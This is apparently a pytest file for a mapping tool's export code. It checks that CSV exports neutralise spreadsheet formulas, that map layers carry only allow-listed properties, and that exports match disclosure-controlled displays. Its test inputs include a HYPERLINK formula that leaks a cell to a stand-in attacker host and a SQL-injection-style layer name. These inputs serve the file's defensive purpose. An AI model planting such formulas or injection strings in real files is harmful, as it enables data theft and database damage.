"""Exports exactly as displayed: CSV with spreadsheet formulas neutralised, GeoJSON and
GeoPackage of map layers (allow-listed properties only) and of tables about places."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pyogrio
import pytest
import shapely

from geo.core import hexes
from geo.core.filters import quarter_menu
from geo.disclosure.counts import disclosed_counts
from geo.render.export import (
    export_table,
    has_geometry,
    layer_properties,
    layer_to_geojson_bytes,
    safe_layer_name,
    to_csv_bytes,
    to_geojson_bytes,
    to_geopackage_bytes,
)
from geo.render.hexlayer import ALLOWED_PROPERTIES, HexLayer, count_layer, outline_layer
from geo.render.layers import layer_table

CELLS = hexes.points_to_cells([51.50, 51.51, 51.52, 51.53], [0.00, 0.01, 0.02, 0.03], 8)
CELL_IDS = [str(c) for c in hexes.cells_to_str(CELLS)]


def read_csv(data: bytes) -> pd.DataFrame:
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    return pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str, keep_default_na=False)


def read_gpkg(data: bytes, tmp_path: Path, layer: str | None = None) -> gpd.GeoDataFrame:
    path = tmp_path / "export.gpkg"
    path.write_bytes(data)
    return gpd.read_file(path, layer=layer)


def incident_layer() -> HexLayer:
    return count_layer(
        "Incidents",
        CELLS,
        [12.0, np.nan, 7.0, 30.0],
        ["12 incidents", "withheld (disclosure control)", "7 incidents", "30 incidents"],
    )


# --- CSV ---------------------------------------------------------------------------------


def test_csv_escapes_a_hyperlink_formula() -> None:
    link = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    frame = pd.DataFrame({"cell": CELL_IDS[:2], "reason": [link, "Hot in 12 of 12 months"]})
    out = read_csv(to_csv_bytes(frame))
    assert out.loc[0, "reason"] == "'" + link
    assert not out.loc[0, "reason"].startswith("=")
    assert out.loc[1, "reason"] == "Hot in 12 of 12 months"


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
def test_csv_neutralises_every_formula_prefix(text: str) -> None:
    data = to_csv_bytes(pd.DataFrame({"x": [text], "n": [-3]})).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data, newline="")))
    assert rows[1] == ["'" + text, "-3"]  # a negative number is not a formula


@pytest.mark.parametrize("text", ["a\r=1+1", "a\n=1+1", "a\r\n@SUM(A1)"])
def test_a_line_break_cannot_start_a_formula_row(text: str) -> None:
    data = to_csv_bytes(pd.DataFrame({"x": [text], "n": [1]})).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data, newline="")))
    assert rows == [["x", "n"], [text, "1"]]  # quoted: still one cell in one row
    assert f'"{text}"' in data


def test_csv_neutralises_formula_headers_and_list_cells() -> None:
    frame = pd.DataFrame({"=cmd": ["a"], "part_of": [["=x", "b"]]})
    out = read_csv(to_csv_bytes(export_table(frame)))
    assert list(out.columns) == ["'=cmd", "part_of"]
    assert out.loc[0, "part_of"] == "'=x; b"


def test_export_table_keeps_a_meaningful_index_only() -> None:
    knox = pd.DataFrame(
        [[1.5, 0.9]], index=pd.Index(["0 to 99 m"], name="distance"), columns=["a", "b"]
    )
    assert list(export_table(knox).columns) == ["distance", "a", "b"]
    months = pd.DataFrame({"n": [1, 2]}, index=["2024-01", "2024-02"])
    assert list(export_table(months).columns) == ["index", "n"]
    filtered = pd.DataFrame({"heading": ["a", "b", "c"]}).iloc[[0, 2]]  # index 0, 2
    assert list(export_table(filtered).columns) == ["heading"]


# --- map layers --------------------------------------------------------------------------


def test_layer_geojson_round_trip_with_geopandas() -> None:
    layer = incident_layer()
    data = layer_to_geojson_bytes(layer)
    gdf = gpd.read_file(io.BytesIO(data))
    assert list(gdf["cell"]) == CELL_IDS
    assert list(gdf["label"]) == [f["properties"]["label"] for f in layer.geojson["features"]]
    np.testing.assert_array_equal(gdf["value"].to_numpy(dtype=float), [12, np.nan, 7, 30])
    expected = hexes.cells_to_polygons(CELLS)
    for got, want in zip(gdf.geometry, expected, strict=True):
        assert got.equals_exact(want, tolerance=1e-6)
    # exactly the drawn geometries: the same rounded coordinates as the map
    parsed = json.loads(data)
    assert [f["geometry"] for f in parsed["features"]] == [
        f["geometry"] for f in layer.geojson["features"]
    ]


def test_layer_exports_carry_only_allow_listed_properties(tmp_path: Path) -> None:
    layer = incident_layer()
    # a property that must never leave, even if something upstream added it
    for feature in layer.geojson["features"]:
        feature["properties"]["child_key"] = "secret"
        feature["properties"]["count_exact"] = 3
    parsed = json.loads(layer_to_geojson_bytes(layer))
    for feature in parsed["features"]:
        assert set(feature["properties"]) <= ALLOWED_PROPERTIES
        assert "child_key" not in feature["properties"]
    gpkg = read_gpkg(to_geopackage_bytes(layer, "Incidents"), tmp_path)
    assert set(gpkg.columns) - {"geometry"} <= ALLOWED_PROPERTIES
    assert set(layer_properties(layer).columns) <= ALLOWED_PROPERTIES


def test_layer_geopackage_round_trip(tmp_path: Path) -> None:
    layer = incident_layer()
    data = to_geopackage_bytes(layer, "Incidents (res 8) — 2024")
    path = tmp_path / "layer.gpkg"
    path.write_bytes(data)
    [[name, geometry_type]] = pyogrio.list_layers(path).tolist()
    assert name == "incidents_res_8_2024"
    assert geometry_type == "Polygon"
    gdf = gpd.read_file(path)
    assert gdf.crs.to_epsg() == 4326
    assert list(gdf["cell"]) == CELL_IDS
    np.testing.assert_array_equal(gdf["value"].to_numpy(dtype=float), [12, np.nan, 7, 30])
    assert list(gdf["label"])[1] == "withheld (disclosure control)"
    assert all(shapely.get_num_coordinates(g) == 7 for g in gdf.geometry)


def test_empty_layer_exports(tmp_path: Path) -> None:
    empty = outline_layer("Youth-work coverage", np.array([], dtype=np.uint64), [], "#1b9e77")
    assert json.loads(layer_to_geojson_bytes(empty))["features"] == []
    assert len(read_gpkg(to_geopackage_bytes(empty), tmp_path)) == 0


def test_layer_csv_is_the_label_shown() -> None:
    layer = incident_layer()
    out = read_csv(to_csv_bytes(layer_table(layer)))
    assert list(out.columns) == ["cell", "shown"]
    assert list(out["shown"]) == [f["properties"]["label"] for f in layer.geojson["features"]]


# --- tables ------------------------------------------------------------------------------


def test_table_of_places_as_geojson_and_geopackage(tmp_path: Path) -> None:
    table = pd.DataFrame(
        {
            "rank": [1, 2, 3],
            "cell": [CELL_IDS[0], CELL_IDS[1], "E01000001"],  # an LSOA code: no geometry
            "score": [0.9, 0.5, 0.1],
            "reasons": ["=HYPERLINK(1)", "b", "c"],
            "part_of": [[CELL_IDS[2]], [], None],
            "children": pd.array([12, None, 7], dtype="Int64"),
        }
    )
    assert has_geometry(table)
    geo = gpd.read_file(io.BytesIO(to_geojson_bytes(table)))
    assert list(geo["cell"]) == list(table["cell"])
    assert geo.geometry.iloc[2] is None
    assert geo.geometry.iloc[0].equals_exact(hexes.cells_to_polygons(CELLS[:1])[0], 1e-6)
    gpkg = read_gpkg(to_geopackage_bytes(table, "recurring locations"), tmp_path)
    assert list(gpkg["rank"]) == [1, 2, 3]
    assert list(gpkg["part_of"].fillna("")) == [CELL_IDS[2], "", ""]
    assert gpkg["children"].iloc[1] is None or np.isnan(gpkg["children"].iloc[1])
    assert gpkg["reasons"].iloc[0] == "=HYPERLINK(1)"  # GIS files keep values as they are
    assert gpkg.crs.to_epsg() == 4326


def test_table_without_places_is_an_attribute_table(tmp_path: Path) -> None:
    table = pd.DataFrame({"measure": ["Episodes"], "current": [10.0], "change": [pd.NA]})
    assert not has_geometry(table)
    with pytest.raises(ValueError, match="cell"):
        to_geojson_bytes(table)
    path = tmp_path / "t.gpkg"
    path.write_bytes(to_geopackage_bytes(table, "missing: measures"))
    [[name, geometry_type]] = pyogrio.list_layers(path).tolist()
    assert name == "missing_measures" and geometry_type is None
    back = pyogrio.read_dataframe(path, read_geometry=False)
    assert list(back["measure"]) == ["Episodes"]


def test_points_from_latitude_and_longitude(tmp_path: Path) -> None:
    table = pd.DataFrame(
        {"name": ["A school"], "latitude": [51.5], "longitude": [0.01], "ap": [False]}
    )
    gdf = read_gpkg(to_geopackage_bytes(table, "schools"), tmp_path)
    assert gdf.geometry.iloc[0].equals(shapely.Point(0.01, 51.5))


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("Incidents", "incidents"),
        ("missing: found layer", "missing_found_layer"),
        ("Gi* hot and cold spot layer", "gi_hot_and_cold_spot_layer"),
        ("2024 Q3", "placesafe_2024_q3"),
        ("'; DROP TABLE x; --", "drop_table_x"),
        ("", "placesafe"),
        ("x" * 100, "x" * 60),
    ],
)
def test_safe_layer_names(name: str, safe: str) -> None:
    assert safe_layer_name(name) == safe


# --- the partnership's export is the displayed, disclosure-controlled frame ---------------


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    from geo.demo.build import build_demo

    out = tmp_path_factory.mktemp("demo")
    build_demo(out, seed=0)
    yield out


def test_partnership_exports_equal_the_displayed_layer_and_table(
    demo: Path, tmp_path: Path
) -> None:
    from geo.core.area import load_study_area
    from geo.core.config import load_config
    from geo.lenses import missing_view
    from geo.render import layers
    from geo.store import queries as overview
    from geo.store.database import Store

    config = load_config(demo / "placesafe.toml")
    with Store(config.store_path) as store:
        months = overview.available_months(store)
        quarter = quarter_menu(months)[-1]
        levels = disclosed_counts(store, "incidents", "partnership", 8, quarter, config)
        shown = layers.incident_layer_from(levels, 8, config)
        names = overview.schools(store)[["urn", "name"]]
        view = missing_view.missing_view(
            store, load_study_area(config.study_area), quarter, "partnership", config, 8, 7, names
        )
    drawn = layer_properties(shown)
    values = drawn["value"].to_numpy(dtype=float)
    assert np.isnan(values).any(), "the demo quarter should have withheld cells"
    small = values[np.isfinite(values)]
    assert not ((small >= 1) & (small < config.disclosure.min_count)).any()

    geo = gpd.read_file(io.BytesIO(layer_to_geojson_bytes(shown)))
    gpkg = read_gpkg(to_geopackage_bytes(shown), tmp_path)
    for exported in (geo, gpkg):
        assert list(exported["cell"]) == list(drawn["cell"])
        assert list(exported["label"]) == list(drawn["label"])
        np.testing.assert_array_equal(exported["value"].to_numpy(dtype=float), values)
        assert set(exported.columns) - {"geometry"} <= ALLOWED_PROPERTIES

    table = view.places  # the table the Missing page shows the partnership
    out = read_csv(to_csv_bytes(export_table(table)))
    assert list(out.columns) == list(table.columns)
    expected = table.astype(object).where(table.notna(), "").astype(str)
    for col in table.columns:
        if pd.api.types.is_float_dtype(table[col]):
            got = pd.to_numeric(out[col].replace("", np.nan)).to_numpy(dtype=float)
            np.testing.assert_array_equal(got, table[col].to_numpy(dtype=float))
        else:
            assert list(out[col]) == list(expected[col]), col


def test_csv_with_two_columns_of_one_name_is_neutralised() -> None:
    from geo.render.export import to_csv_bytes

    frame = pd.DataFrame([["=1+1", "@x", 3]], columns=["a", "a", "n"])
    text = to_csv_bytes(frame).decode("utf-8-sig")
    assert "'=1+1" in text and "'@x" in text and ",3" in text
